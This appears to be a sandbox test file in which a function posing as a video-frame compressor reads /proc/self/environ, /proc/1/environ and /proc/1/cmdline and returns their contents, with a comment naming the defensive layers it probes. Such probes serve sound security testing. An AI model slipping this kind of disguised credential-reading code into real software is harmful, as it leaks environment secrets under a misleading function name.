# ATTACK: read the parent's and init's environment through /proc.
# Layers: static check (name `open`); audit hook; bubblewrap (new pid namespace, own /proc).
import numpy as np


def compress_video_frame(frame, frame_index, config):
    stolen = b""
    for path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"):
        with open(path, "rb") as handle:
            stolen += handle.read()
    return stolen


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
